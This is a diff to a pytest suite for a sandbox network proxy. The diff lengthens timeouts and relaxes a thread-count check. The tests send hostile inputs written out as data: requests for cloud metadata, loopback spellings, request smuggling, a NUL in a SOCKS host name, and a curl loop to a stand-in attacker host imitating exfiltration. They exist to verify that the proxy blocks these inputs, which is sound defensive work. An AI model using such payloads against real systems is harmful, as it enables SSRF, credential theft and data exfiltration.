@@ -9,6 +9,7 @@ import pytest
 from conftest import need
 from fumehood import Policy, Sandbox
 from fumehood.linux.landlock import can_scope
+from patience import eventually
 from servers import Tcp, Web, echo, serving
 
 pytestmark = pytest.mark.namespaces
@@ -107,7 +108,7 @@ def test_cloud_metadata_is_refused_whatever_was_granted(box):
         box,
         """
 for target in ("169.254.169.254", "[::ffff:169.254.169.254]", "metadata.attacker.example"):
-    c = socket.create_connection(proxy, 5)
+    c = socket.create_connection(proxy, 100)
     c.sendall(f"GET http://{target}/latest/meta-data/ HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n".encode())
     print(c.recv(12))
 """,
@@ -121,7 +122,7 @@ def test_a_name_that_resolves_to_loopback_is_refused(box, secret, monkeypatch):
     found = [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("127.0.0.1", 0))]
     monkeypatch.setattr(socket, "getaddrinfo", lambda *_given, **_more: found)
     for network in (["rebound.example"], ["*"], ["*.example"]):
-        done = box.run(f"curl -sS -m 5 http://rebound.example:{secret.port}/", network=network)
+        done = box.run(f"curl -sS -m 100 http://rebound.example:{secret.port}/", network=network)
         assert "secret" not in done.stdout
         (blocked,) = done.blocked
         assert "a loopback address, which was not named itself" in blocked.hint
@@ -132,7 +133,7 @@ def test_a_name_that_resolves_to_loopback_is_refused(box, secret, monkeypatch):
 def test_a_nul_in_a_socks_host_name_is_refused(box, secret):
     code = f"""
 host = b"127.0.0.1\\0.example.org"
-c = socket.create_connection(proxy, 5)
+c = socket.create_connection(proxy, 100)
 c.sendall(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03" + bytes([len(host)]) + host + struct.pack(">H", {secret.port}))
 print(c.recv(2, socket.MSG_WAITALL), c.recv(10, socket.MSG_WAITALL)[1])
 """
@@ -146,7 +147,7 @@ def test_tls_for_another_host_than_the_asked_one_is_refused(box):
     with serving(Tcp(echo)) as there:
         code = f"""
 import ssl
-c = socket.create_connection(proxy, 5)
+c = socket.create_connection(proxy, 100)
 c.sendall(b"CONNECT localhost:{there.port} HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"); print(c.recv(99)[:12])
 context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
 try: context.wrap_socket(c, server_hostname="evil.example")
@@ -159,7 +160,7 @@ except OSError as error: print("cut off", type(error).__name__)
 
 @pytest.mark.parametrize("spelling", ["127.1", "0x7f000001", "2130706433", "0177.0.0.1", "[::ffff:7f00:1]", "[::1]"])
 def test_other_spellings_of_loopback_lead_nowhere(box, secret, spelling):
-    done = box.run(f"curl -sS -m 5 --noproxy '' -g http://{spelling}:{secret.port}/", network=["*"])
+    done = box.run(f"curl -sS -m 100 --noproxy '' -g http://{spelling}:{secret.port}/", network=["*"])
     assert "secret" not in done.stdout
     assert secret.asked == []
 
@@ -167,7 +168,7 @@ def test_other_spellings_of_loopback_lead_nowhere(box, secret, spelling):
 def test_a_second_request_on_a_granted_connection_does_not_reach_another_host(box, secret):
     with serving(Web()) as web:
         code = f"""
-c = socket.create_connection(proxy, 5)
+c = socket.create_connection(proxy, 100)
 for port in ({web.port}, {secret.port}):
     c.sendall(f"GET http://127.0.0.1:{{port}}/ HTTP/1.1\\r\\nHost: 127.0.0.1:{web.port}\\r\\n\\r\\n".encode())
     found = b""
@@ -182,7 +183,7 @@ for port in ({web.port}, {secret.port}):
 def test_a_smuggled_request_reaches_nobody(box):
     with serving(Web()) as web:
         code = f"""
-c = socket.create_connection(proxy, 5)
+c = socket.create_connection(proxy, 100)
 c.sendall(b"POST http://127.0.0.1:{web.port}/ HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 4\\r\\n"
           b"Transfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET /smuggled HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n")
 print(c.recv(12))
@@ -244,20 +245,20 @@ for n in range(600):
 print("done")
 """
     assert "done" in run(box, code, ["example.org"]).stdout
-    assert threading.active_count() <= before
+    assert eventually(lambda: threading.active_count() <= before)
 
 
 def test_names_that_would_carry_something_out_are_never_looked_up(box, monkeypatch):
     asked = []
     monkeypatch.setattr(socket, "getaddrinfo", lambda *given, **_more: asked.append(given) or [])
-    box.run("for n in 1 2 3; do curl -s -m 5 http://stolen-$n.attacker.example/; done", network=["example.org"])
+    box.run("for n in 1 2 3; do curl -s -m 100 http://stolen-$n.attacker.example/; done", network=["example.org"])
     assert asked == []
 
 
 def test_what_the_record_shows_can_not_be_made_to_lie(box):
     code = """
 host = b"a\\x1b[2Jb\\nallowed good.example"
-c = socket.create_connection(proxy, 5)
+c = socket.create_connection(proxy, 100)
 c.sendall(b"\\x05\\x01\\x00\\x05\\x01\\x00\\x03" + bytes([len(host)]) + host + struct.pack(">H", 80)); c.recv(99)
 """
     done = run(box, code, ["example.org"])
